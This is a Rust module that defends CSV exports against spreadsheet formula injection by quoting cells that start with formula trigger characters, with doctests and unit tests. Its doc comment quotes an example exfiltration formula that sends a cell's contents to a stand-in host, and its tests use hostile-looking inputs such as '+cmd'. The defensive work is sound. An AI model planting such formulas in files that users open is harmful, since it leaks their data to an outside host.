//! Formula injection in CSV outputs (docs/ROBUSTNESS.md "Formula
//! injection").
//!
//! A spreadsheet that opens a CSV file reads a cell that starts with `=`,
//! `+`, `-` or `@` as a formula, and a leading tab or carriage return lets
//! such a cell hide behind blank space. A ticket title such as
//! `=HYPERLINK("http://x/?"&A1,"ver")` would then run in the quality
//! officer's spreadsheet. plazo writes every free-text cell of a CSV
//! output through [`FreeText`]: by default such a cell gets a single
//! quote in front (`'=HYPERLINK(...)`), the rule of OWASP's "CSV
//! Injection" page, so that the spreadsheet shows it as text;
//! `--csv-raw` writes it as it is. Numeric columns (durations, counts,
//! percentages) are never written through it, and a free-text cell that
//! is a plain number (`-3.5`, `+57`, `-1,5`) is left alone: a spreadsheet
//! reads it as that number, not as a formula.
//!
//! ```
//! use plazo::io::formula::{FreeText, formula_like};
//! assert!(formula_like("=1+1"));
//! assert!(formula_like("+cmd"));
//! assert!(formula_like("-2+3"));
//! assert!(formula_like("\t=1"));
//! assert!(!formula_like("-3.5"));
//! assert!(!formula_like("Red - VPN"));
//! assert_eq!(FreeText::Guarded.cell("@SUM(A1)"), "'@SUM(A1)");
//! assert_eq!(FreeText::Raw.cell("@SUM(A1)"), "@SUM(A1)");
//! let mut out = String::new();
//! FreeText::Guarded.push(&mut out, "=A1,B1");
//! assert_eq!(out, "\"'=A1,B1\"");
//! ```

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a
/// formula (or hide one): `=`, `+`, `-`, `@`, tab, carriage return.
pub const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// How the free-text cells of a CSV output are written.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum FreeText {
    /// A cell that [`formula_like`] gets a leading `'` (the default).
    #[default]
    Guarded,
    /// Every cell as it is (`--csv-raw`).
    Raw,
}

impl FreeText {
    /// `Raw` when `raw`, else `Guarded`.
    pub fn from_raw(raw: bool) -> FreeText {
        if raw {
            FreeText::Raw
        } else {
            FreeText::Guarded
        }
    }

    /// The text written for the free-text value `s`.
    pub fn cell(self, s: &str) -> Cow<'_, str> {
        if self == FreeText::Guarded && formula_like(s) {
            Cow::Owned(format!("'{s}"))
        } else {
            Cow::Borrowed(s)
        }
    }

    /// Appends the free-text value `s` as one CSV field (quoted when
    /// needed, as [`crate::io::csv::push_field`]).
    pub fn push(self, out: &mut String, s: &str) {
        crate::io::csv::push_field(out, &self.cell(s));
    }
}

/// True when a spreadsheet would read `s` as a formula: it starts with
/// one of [`TRIGGERS`] and is not a plain number such as `-3.5`, `+57`,
/// `-1,5` or `-2e3` (a sign, then a decimal number).
pub fn formula_like(s: &str) -> bool {
    let Some(first) = s.chars().next() else {
        return false;
    };
    if !TRIGGERS.contains(&first) {
        return false;
    }
    !((first == '-' || first == '+') && plain_number(&s[1..]))
}

/// `3.5`, `1,5`, `.5`, `2e3`: digits with at most one decimal mark and
/// an exponent; no sign, no space, nothing else.
fn plain_number(s: &str) -> bool {
    let starts_right = s.starts_with(|c: char| c.is_ascii_digit())
        || (s.len() > 1 && s.starts_with(['.', ',']));
    let only_number_chars = s.chars().all(|c| {
        c.is_ascii_digit() || matches!(c, '.' | ',' | 'e' | 'E' | '+' | '-')
    });
    starts_right
        && only_number_chars
        && s.replacen(',', ".", 1).parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_trigger_is_guarded_and_plain_numbers_are_not() {
        for s in ["=1", "+cmd", "-cmd", "@x", "\tx", "\rx", "-", "+", "--1"] {
            assert!(formula_like(s), "{s:?}");
            assert_eq!(FreeText::Guarded.cell(s), format!("'{s}"));
        }
        for s in [
            "-3.5", "+57", "-1,5", "-.5", "-2e3", "12", "", "a=b", " =1",
            "'=1",
        ] {
            assert!(!formula_like(s), "{s:?}");
        }
        // A sign and a sum is a formula, not a number.
        for s in ["-2+3", "-1,5,6", "+1-", "-1.2.3", "-e3", "-inf", "-NaN"] {
            assert!(formula_like(s), "{s:?}");
        }
    }

    #[test]
    fn a_guarded_field_is_still_quoted_for_csv() {
        let mut out = String::new();
        FreeText::Guarded.push(&mut out, "=\"a\"");
        assert_eq!(out, "\"'=\"\"a\"\"\"");
        let mut out = String::new();
        FreeText::Raw.push(&mut out, "=1");
        assert_eq!(out, "=1");
    }
}
